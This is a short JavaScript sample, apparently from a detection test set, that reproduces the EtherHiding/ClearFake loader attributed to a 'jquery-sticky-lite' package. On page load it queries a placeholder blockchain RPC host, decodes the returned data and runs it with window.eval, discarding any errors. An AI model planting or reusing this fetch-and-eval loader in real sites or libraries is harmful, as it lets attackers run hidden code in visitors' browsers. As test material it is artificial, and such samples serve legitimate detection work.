// source: EtherHiding/ClearFake (2023-2025) as blind set 11's jquery-sticky-lite ran it: an eth_call to a chain node, the answer decoded and run by window.eval in a handler of the caller's promise chain
function rpc() {
  return fetch('https://bsc-dataseed.x.invalid/', { method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0xFAKE', data: '0x6d4ce63c' }, 'latest'] }) });
}
function start() {
  rpc().then((r) => r.json()).then((j) => { window.eval(atob(j.result.slice(130).replace(/0+$/, ''))); }).catch(() => {});
}
document.addEventListener('DOMContentLoaded', start);
